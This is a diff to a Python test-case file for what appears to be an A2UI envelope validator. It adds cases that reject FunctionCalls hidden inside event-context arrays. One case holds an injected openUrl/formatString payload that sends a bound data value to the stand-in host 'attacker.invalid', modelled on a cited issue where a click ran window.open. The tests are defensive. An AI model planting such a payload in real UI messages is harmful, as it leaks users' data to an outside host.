@@ -194,18 +194,20 @@ CASES = [
     # §4 positive example and friends
     Case("v2-positive", "v2", positive()),
     Case("v2-exchange-button", "v2", single(_button({"event": {"name": "exchange"}}))),
-    # docs/admission.md decision 11: an array literal is data (§4 dynValue "items
-    # unconstrained"); a renderer hands it over without evaluating its items, so a
-    # call-shaped object inside one (here, a list of phone calls) is not a FunctionCall.
+    # docs/admission.md decision 11: an array literal's items are data unless they are
+    # FunctionCall-shaped. Plain data, bindings and nested arrays are admitted...
     Case(
-        "v2-array-literal-of-call-shaped-data",
+        "v2-array-literal-of-data",
         "v2",
         single(
             _button(
                 {
                     "event": {
                         "name": "resume",
-                        "context": {"calls": [{"call": "Mom", "minutes": 3}, {"call": None}]},
+                        "context": {
+                            "calls": [{"to": "Mom", "minutes": 3}, None, [1, "two", [True]]],
+                            "bound": [{"path": "/name"}, "x"],
+                        },
                     }
                 }
             )
@@ -429,6 +431,95 @@ CASES = [
         "envelope_invalid",
         UC + "/action/event/context/when",
         ('FunctionCall "now"', "a2ui-surface-no-code-exec"),
+    ),
+    # ...but @a2ui/web_core 0.11.0 evaluates every array item holding `call` or `path`
+    # (data-context.js "1b. Arrays"): a FunctionCall inside an array literal would run (issue
+    # 14 item 1: a click ran window.open through openUrl in a context array).
+    Case(
+        "call-in-context-array",
+        "v2",
+        single(
+            _button(
+                {
+                    "event": {
+                        "name": "resume",
+                        "context": {
+                            "x": [
+                                {
+                                    "call": "openUrl",
+                                    "args": {
+                                        "url": {
+                                            "call": "formatString",
+                                            "args": {"value": "https://attacker.invalid/?${/n}"},
+                                        }
+                                    },
+                                }
+                            ]
+                        },
+                    }
+                }
+            )
+        ),
+        "envelope_invalid",
+        UC + "/action/event/context/x/0",
+        ('FunctionCall "openUrl"', "a2ui-surface-no-code-exec"),
+        {"affordance": "function-value", "invariant": "a2ui-surface-no-code-exec"},
+    ),
+    Case(
+        "call-shaped-data-in-context-array",
+        "v2",
+        single(_button({"event": {"name": "resume", "context": {"calls": [{"call": "Mom"}]}}})),
+        "envelope_invalid",
+        UC + "/action/event/context/calls/0",
+        ('FunctionCall "Mom"', "a2ui-surface-no-code-exec"),
+        {"affordance": "function-value"},
+    ),
+    Case(
+        "call-deep-in-context-array",
+        "v2",
+        single(
+            _button(
+                {
+                    "event": {
+                        "name": "resume",
+                        "context": {"x": [1, [2, [{"a": {"b": [{"call": "now"}]}}]]]},
+                    }
+                }
+            )
+        ),
+        "envelope_invalid",
+        UC + "/action/event/context/x/1/1/0/a/b/0",
+        ('FunctionCall "now"', "a2ui-surface-no-code-exec"),
+        {"affordance": "function-value"},
+    ),
+    Case(
+        "required-call-in-context-array",
+        "v2",
+        single(
+            _button(
+                {
+                    "event": {
+                        "name": "resume",
+                        "context": {"x": [{"call": "required", "args": {"value": {"path": "/n"}}}]},
+                    }
+                }
+            )
+        ),
+        "envelope_invalid",
+        UC + "/action/event/context/x/0",
+        ('FunctionCall "required"', "a2ui-surface-no-code-exec"),
+        {"affordance": "function-value"},
+    ),
+    Case(
+        "functionCall-in-context-array",
+        "v2",
+        single(
+            _button({"event": {"name": "resume", "context": {"x": [{"functionCall": "openUrl"}]}}})
+        ),
+        "envelope_invalid",
+        UC + "/action/event/context/x/0",
+        ("functionCall", "a2ui-surface-no-code-exec"),
+        {"affordance": "function-value"},
     ),
     Case(
         "unknown-component",
